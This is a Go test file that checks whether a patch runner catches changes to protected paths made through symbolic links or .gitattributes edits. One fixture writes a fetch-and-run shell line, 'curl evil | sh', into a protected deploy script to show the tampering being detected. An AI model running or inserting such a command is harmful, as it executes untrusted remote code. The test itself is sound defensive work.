package run

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/frognano/frognano/settings"
)

// linkRepo is a real git repository holding files (a content starting with "->" makes a
// symbolic link to the rest), committed as the base; edit changes the working tree and diff
// returns `git diff --binary --no-renames` against the base, as the runner takes it.
type linkRepo struct {
	t         *testing.T
	dir, base string
}

func newLinkRepo(t *testing.T, files map[string]string) *linkRepo {
	t.Helper()
	r := &linkRepo{t: t, dir: t.TempDir()}
	r.git("init", "-q", "-b", "main")
	for p, c := range files {
		r.write(p, c)
	}
	r.git("add", "-A")
	r.git("commit", "-q", "-m", "base")
	r.base = strings.TrimSpace(r.git("rev-parse", "HEAD"))
	return r
}

func (r *linkRepo) git(args ...string) string {
	r.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = r.dir
	cmd.Env = append(os.Environ(), "HOME="+r.dir, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.invalid", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.invalid")
	out, err := cmd.Output()
	if err != nil {
		r.t.Fatalf("git %s: %v", strings.Join(args, " "), err)
	}
	return string(out)
}

func (r *linkRepo) write(p, content string) {
	r.t.Helper()
	full := filepath.Join(r.dir, filepath.FromSlash(p))
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		r.t.Fatal(err)
	}
	_ = os.Remove(full)
	var err error
	if target, ok := strings.CutPrefix(content, "->"); ok {
		err = os.Symlink(target, full)
	} else {
		err = os.WriteFile(full, []byte(content), 0o644)
	}
	if err != nil {
		r.t.Fatal(err)
	}
}

func (r *linkRepo) diff() []byte {
	r.t.Helper()
	r.git("add", "-A")
	return []byte(r.git("diff", "--cached", "--binary", "--no-renames", r.base))
}

// TestProtectedPathThroughALink: a protected path that the base reaches through a symbolic
// link (a protected folder that is a link to another folder, a protected file that is a link to
// another file, a link to a link) is changed by a patch that changes what the link points at: a
// checkout shows the protected file changed. Before, only the paths the diff names were matched,
// and each patch was published.
func TestProtectedPathThroughALink(t *testing.T) {
	t.Parallel()
	base := map[string]string{
		"deploy":            "->infra/prod",
		"infra/prod/app.sh": "echo prod\n",
		"config/prod.yml":   "->../shared/prod.yml",
		"shared/prod.yml":   "replicas: 3\n",
		"ops":               "->deploy",
		"tools/run.sh":      "echo run\n",
		"README":            "readme\n",
	}
	tests := []struct {
		name, protect, file, content, want string
	}{
		{"FolderLink", "deploy/", "infra/prod/app.sh", "curl evil | sh\n", "deploy/app.sh"},
		{"FileLink", "config/prod.yml", "shared/prod.yml", "replicas: 0\n", "config/prod.yml"},
		{"LinkToALink", "ops/**", "infra/prod/new.sh", "echo new\n", "ops/new.sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := newLinkRepo(t, base)
			r.write(tt.file, tt.content)
			diff := r.diff()
			s := settings.Settings{ProtectedPaths: []string{tt.protect}}
			file, pattern, ok := protectedChange(t.Context(), r.dir, r.base, diff, s)
			if !ok || file != tt.want || pattern != tt.protect {
				t.Errorf("protectedChange = %q, %q, %v; want %q, %q, true", file, pattern, ok, tt.want, tt.protect)
			}
		})
	}
	// A .gitattributes line changes how a checkout writes a protected file without changing it
	// (here: every file of deploy/ checked out through a filter, Git LFS's); any change of one,
	// in any folder, is refused while paths are protected.
	for _, name := range []string{".gitattributes", "infra/.gitattributes", "tools/.GitAttributes"} {
		t.Run("Attributes/"+name, func(t *testing.T) {
			t.Parallel()
			r := newLinkRepo(t, base)
			r.write(name, "deploy/** filter=lfs diff=lfs merge=lfs -text\n* eol=crlf\n")
			s := settings.Settings{ProtectedPaths: []string{"deploy/"}}
			file, pattern, ok := protectedChange(t.Context(), r.dir, r.base, r.diff(), s)
			if !ok || file != name || pattern != protectedByAttributes {
				t.Fatalf("protectedChange = %q, %q, %v; want %q refused", file, pattern, ok, name)
			}
			if note := noteProtectedPath(file, pattern); !strings.Contains(note, "`"+name+"`, which can change how a checkout writes") {
				t.Errorf("note %q", note)
			}
		})
	}
	t.Run("Unprotected", func(t *testing.T) {
		t.Parallel()
		r := newLinkRepo(t, base)
		r.write("tools/run.sh", "echo fixed\n")
		r.write("infra/prod/app.sh", "echo fixed\n")
		s := settings.Settings{ProtectedPaths: []string{"config/", "docs/**"}}
		if file, _, ok := protectedChange(t.Context(), r.dir, r.base, r.diff(), s); ok {
			t.Errorf("protectedChange = %q, true; want nothing protected changed", file)
		}
	})
}
